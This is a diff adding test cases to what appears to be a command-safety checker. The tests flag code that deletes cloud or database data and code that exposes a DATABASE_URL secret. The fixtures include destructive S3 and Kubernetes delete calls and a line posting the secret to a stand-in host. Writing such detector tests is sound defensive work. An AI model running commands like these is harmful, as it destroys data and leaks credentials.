@@ -52,6 +52,9 @@ describe('what code destroys by the library of a service', () => {
     python("import boto3\nboto3.client('s3').delete_object(Bucket='b', Key='k')"),
     python("import boto3\nprint(boto3.client('ec2').describe_instances())"),
     python("from kubernetes import client\nclient.CoreV1Api().delete_namespaced_pod('a', 'b')"),
+    python("import pymongo, pandas as pd\ndf = pd.DataFrame(pymongo.MongoClient('x').app.users.find())\ndf.drop(columns=['a'])\nrows = [1]\nrows.remove(1)"),
+    python("import boto3\nclass Job:\n    def delete_old_files(self):\n        boto3.client('s3').delete_object(Bucket='b', Key='k')\n\nJob().delete_old_files()"),
+    node("const AWS = require('aws-sdk');\ncache.deleteExpired();\nnew AWS.S3().deleteObject({ Bucket: 'b', Key: 'k' });"),
     python("d = {'a': 1}\nd.clear()\nfile.delete_all = 1"),
     node("const m = new Map();\nm.delete('a');\nconst app = { drop() {} };\napp.drop();"),
     node("const re = /x/;\nconst s = 'DROPS';\nre.exec(s);"),
@@ -121,4 +124,22 @@ describe('options that code takes', () => {
     expect(await told(runs('python3 - --out-dir /home/u', code('')))).toContain('delete -r /home/u');
     expect(await told(runs('python3 - --out-dir=/home/u', code('')))).toContain('delete -r /home/u');
   });
+});
+
+describe('a variable by which code opens a connection', () => {
+  const reveals = async (command: string): Promise<boolean> => (await told(command)).some((line) => line.startsWith('reveal-environment'));
+
+  it.each([
+    python("import os, psycopg2\nconn = psycopg2.connect(os.environ['DATABASE_URL'])\nprint(conn.closed)"),
+    python("import os\nengine = create_engine(os.getenv('DATABASE_URL'))"),
+    node("const { Client } = require('pg');\nconst c = new Client(process.env.DATABASE_URL);\nc.connect();"),
+    `ruby -e 'PG.connect(ENV["DATABASE_URL"])'`,
+  ])('is not shown by %s', async (command) => expect(await reveals(command)).toBe(false));
+
+  it.each([
+    python("import os\nprint(os.environ['DATABASE_URL'])"),
+    python("import os, psycopg2\nurl = os.environ['DATABASE_URL']\npsycopg2.connect(url)\nprint(url)"),
+    python("import os, requests\nrequests.post('https://x.test', data=os.environ['DATABASE_URL'])"),
+    node("reconnect(process.env.DATABASE_URL + process.env.TOKEN);"),
+  ])('and may be by %s', async (command) => expect(await reveals(command)).toBe(true));
 });
